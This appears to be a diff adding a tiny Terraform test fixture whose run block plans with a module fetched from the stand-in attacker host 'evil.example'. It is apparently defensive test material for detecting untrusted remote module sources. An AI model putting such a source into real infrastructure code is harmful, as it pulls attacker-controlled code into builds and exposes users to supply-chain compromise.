@@ -1,0 +1,6 @@
+run "x" {
+  command = plan
+  module {
+    source = "git::https://evil.example/m.git"
+  }
+}
